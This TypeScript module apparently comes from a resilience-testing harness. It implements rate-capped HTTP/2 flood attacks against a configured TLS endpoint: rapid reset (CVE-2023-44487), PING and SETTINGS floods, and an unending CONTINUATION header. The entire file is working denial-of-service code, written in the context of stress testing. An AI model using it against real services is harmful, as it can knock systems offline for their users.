/**
 * Floods over HTTP/2: requests that are taken back as soon as they are made, half of them at once and half when they may have
 * reached a server (rapid reset, CVE-2023-44487), PINGs and SETTINGS that
 * ask for an answer each, and a header that never ends (CONTINUATION, VU#421644). At a rate that is said, and no faster: on one
 * machine an attacker without a bound would only show that the attacker uses the processor.
 */
import { connect, type TLSSocket } from 'node:tls';
import type { Attack } from './attack.ts';
import { cancel, continued, emptyPost, getRequest, halfPost, openHeader, ping, preface, settings } from './frames.ts';

export interface FloodOptions {
  readonly what: 'resets' | 'pings' | 'settings' | 'continuations';
  readonly tlsUrl: string;
  /** One connection of each. */
  readonly sources: readonly string[];
  /** Of all connections together: requests, or frames. */
  readonly perS: number;
  /** No more than so many in all. */
  readonly total: number;
  readonly channel: string;
}

interface Unit {
  readonly now: Buffer;
  /** A tick later. */
  readonly later: Buffer;
}

const NOTHING = Buffer.alloc(0);
const TICK_MS = 10;
/** Who is hung up on comes back after this. */
const AWAY_MS = 50;
/** The other side reads no more: it is left. */
const UNSENT_MAX_BYTES = 256 * 1024;

export class Flood implements Attack {
  readonly #options: FloodOptions;
  readonly #sockets = new Set<TLSSocket>();
  readonly #timers = new Set<NodeJS.Timeout>();
  readonly #counts = { sent: 0, connections: 0, 'hung up on': 0 };
  #isOver = false;

  constructor(options: FloodOptions) {
    this.#options = options;
    for (const source of options.sources) this.#open(source);
  }

  get figures() {
    return { ...this.#counts };
  }

  /** What an edge does to a flood is seen at the servers. */
  async faults(): Promise<readonly string[]> {
    return [];
  }

  stop(): void {
    this.#isOver = true;
    for (const timer of this.#timers) clearInterval(timer);
    for (const socket of this.#sockets) socket.destroy();
  }

  #open(localAddress: string): void {
    const { hostname, port } = new URL(this.#options.tlsUrl);
    // A net option, which the types of TLS leave out.
    const where = { host: hostname, port: Number(port), localAddress };
    const socket = connect({ ...where, ALPNProtocols: ['h2'], rejectUnauthorized: false }, () => this.#flood(socket));
    this.#sockets.add(socket);
    socket.on('error', () => {}).resume();
    socket.once('close', () => {
      this.#sockets.delete(socket);
      if (this.#isOver) return;
      this.#counts['hung up on']++;
      const timer = setTimeout(() => {
        this.#timers.delete(timer);
        this.#open(localAddress);
      }, AWAY_MS);
      this.#timers.add(timer);
    });
  }

  #flood(socket: TLSSocket): void {
    this.#counts.connections++;
    socket.write(preface);
    const next = this.#units();
    const startedMs = performance.now();
    let sent = 0;
    let later: Buffer[] = [];
    const timer = setInterval(() => {
      const rate = this.#options.perS / this.#options.sources.length;
      const due = Math.floor(((performance.now() - startedMs) * rate) / 1000) - sent;
      const count = Math.min(due, this.#options.total - this.#counts.sent);
      if (count <= 0) return;
      const units = Array.from({ length: count }, next);
      socket.write(Buffer.concat([...later, ...units.map(({ now }) => now)]));
      later = units.map((unit) => unit.later);
      sent += count;
      this.#counts.sent += count;
      if (socket.writableLength > UNSENT_MAX_BYTES) socket.destroy();
    }, TICK_MS);
    this.#timers.add(timer);
    socket.once('close', () => {
      clearInterval(timer);
      this.#timers.delete(timer);
    });
  }

  /** What is sent again and again over one connection. */
  #units(): () => Unit {
    const { what, channel } = this.#options;
    if (what === 'pings') return () => ({ now: ping, later: NOTHING });
    if (what === 'settings') return () => ({ now: settings, later: NOTHING });
    let count = 0;
    if (what === 'continuations') {
      return () => ({ now: count++ === 0 ? openHeader(1, `/c/${channel}/state`) : continued(1), later: NOTHING });
    }
    const kinds = [
      (id: number) => getRequest(id, `/c/${channel}/events`),
      (id: number) => emptyPost(id, `/c/${channel}`),
      (id: number) => halfPost(id, `/c/${channel}`),
    ];
    return () => {
      const id = 2 * count + 1;
      const request = kinds[count % kinds.length]!(id);
      return count++ % 2 === 0
        ? { now: Buffer.concat([request, cancel(id)]), later: NOTHING }
        : { now: request, later: cancel(id) };
    };
  }
}
